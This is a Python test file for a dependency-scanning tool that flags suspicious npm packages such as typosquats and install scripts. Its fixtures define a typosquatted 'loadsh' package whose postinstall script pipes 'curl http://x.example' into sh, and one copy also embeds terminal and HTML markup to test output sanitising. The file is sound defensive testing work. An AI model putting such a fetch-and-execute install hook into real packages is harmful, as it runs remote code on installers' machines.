"""Suspicions on their way to a person and to a policy: shown with their reasons, deciding nothing."""

import json
from pathlib import Path

import msgspec

from assay.dependencies.suspicion import suspicions
from assay.flows.statements import statements
from assay.formats import report as reports_json
from assay.formats import vulns
from assay.interfaces.cli.render import html, markdown, table
from assay.model.inventory import Component
from assay.model.report import Report
from assay.policy.facts import build
from assay.trust.observed import observed
from command import assay
from reports import finding, report, sample

NOW = "2026-01-02T03:04:05Z"


def suspect(name: str, version: str = "1.0.0", script: str = "") -> Component:
    properties = (("npm:install-script", script),) if script else ()
    key = f"npm/{name}@{version}"
    return Component(key=key, purl=f"pkg:{key}", ecosystem="npm", name=name, version=version, properties=properties)


def suspected() -> Report:
    found = suspicions(
        [suspect("loadsh", script="postinstall: curl http://x.example/\x1b[31m<b> | sh"), suspect("eslint-js")]
    )
    return msgspec.structs.replace(sample(), suspicions=found)


def tree(folder: Path) -> Path:
    packages: dict[str, dict[str, object]] = {
        "loadsh": {"scripts": {"postinstall": "curl http://x.example | sh"}}, "@acme/x": {},
    }  # fmt: skip
    for name, more in packages.items():
        place = folder / "node_modules" / name
        place.mkdir(parents=True)
        (place / "package.json").write_text(json.dumps({"name": name, "version": "1.0.0"} | more))
    return folder


def test_every_rendering_shows_the_reasons_and_no_markup() -> None:
    found = suspected()
    for text in (table.render(found, columns=100, colour=False), markdown.render(found), html.render(found)):
        assert "looks like lodash" in text.replace("\n", " ").replace("  ", " ")
        assert "decide nothing" in " ".join(text.split())
        assert "\x1b" not in text
    assert "<b> | sh" not in html.render(found)
    assert "eslint-js" not in table.render(found, columns=100, colour=False), "a low one is counted"
    assert "eslint-js" in table.render(found, columns=100, colour=False, everything=True)
    assert all(len(line) <= 60 for line in table.render(found, columns=60, colour=False).splitlines())
    assert "uspicion" not in table.render(sample(), columns=100, colour=False)


def test_the_report_keeps_them() -> None:
    found = suspected()
    assert reports_json.read(reports_json.write(found), "r").suspicions == found.suspicions


def test_policy_may_ask_and_nothing_else_changes() -> None:
    odd = suspicions([suspect("lod\udcffash"), suspect("loadsh", script="postinstall: curl x")])
    found = msgspec.structs.replace(report(finding("CVE-2025-0001", severity="low")), suspicions=odd)
    plain = msgspec.structs.replace(found, suspicions=())
    facts, without = (
        json.loads(build([observed(s, NOW) for s in statements(r, timestamp=NOW)], r.subject).at(NOW))
        for r in (found, plain)
    )
    assert facts["suspicions"]["state"] == "present"
    assert facts["suspicions"]["items"][0]["component"] == "loadsh 1.0.0"
    assert facts["suspicions"]["items"][0]["kinds"] == ["install-script", "typosquat"]
    assert without["suspicions"]["items"] == []
    assert [s["open"] for s in facts["findings"]["scans"]] == [s["open"] for s in without["findings"]["scans"]]


def test_a_scan_by_another_tool_says_nothing_of_suspicions() -> None:
    theirs: dict[str, object] = {"scanner": {"uri": "urn:x", "result": []}, "metadata": {}}
    assert vulns.read(theirs, where="x").suspicions is None


def test_a_scan_finds_them_and_they_block_nothing(tmp_path: Path) -> None:
    target = f"dir:{tree(tmp_path / 'app')}"
    done = assay("scan", target, "-o", "json", "--no-policy", home=tmp_path)
    assert done.code == 0, done.err
    (one,) = json.loads(done.out)["suspicions"]
    assert (one["name"], one["level"]) == ("loadsh", "high")
    assert [clue["kind"] for clue in one["clues"]] == ["typosquat", "install-script"]
    denied = assay("scan", target, home=tmp_path)
    quiet = assay("scan", target, home=tmp_path, env={"ASSAY_INTERNAL_NAMES": "@acme/*"})
    assert denied.code == quiet.code, "the shipped policy does not ask for suspicions"


def test_internal_names_come_from_flags_or_the_environment(tmp_path: Path) -> None:
    target = f"dir:{tree(tmp_path / 'app')}"
    words = ("scan", target, "-o", "json", "--no-policy")
    by_flag = assay(*words, "--internal-name", "@acme/*", home=tmp_path)
    by_variable = assay(*words, home=tmp_path, env={"ASSAY_INTERNAL_NAMES": "@other/*, @acme/*"})
    assert by_flag.code == by_variable.code == 0, by_flag.err
    names = [one["name"] for one in json.loads(by_flag.out)["suspicions"]]
    assert names == ["loadsh", "@acme/x"]
    assert json.loads(by_variable.out)["suspicions"] == json.loads(by_flag.out)["suspicions"]


def test_scan_of_the_sbom_suspects_the_same(tmp_path: Path) -> None:
    app = tree(tmp_path / "app")
    for form in ("cyclonedx-json", "spdx-json"):
        document = tmp_path / form
        made = assay("sbom", f"dir:{app}", "-o", f"{form}={document}", home=tmp_path)
        assert made.code == 0, made.err
        texts = [
            assay("scan", target, "-o", "json", "--no-policy", "--internal-name", "@acme/*", home=tmp_path).out
            for target in (f"dir:{app}", f"sbom:{document}")
        ]
        first, second = (json.loads(text)["suspicions"] for text in texts)
        assert first == second
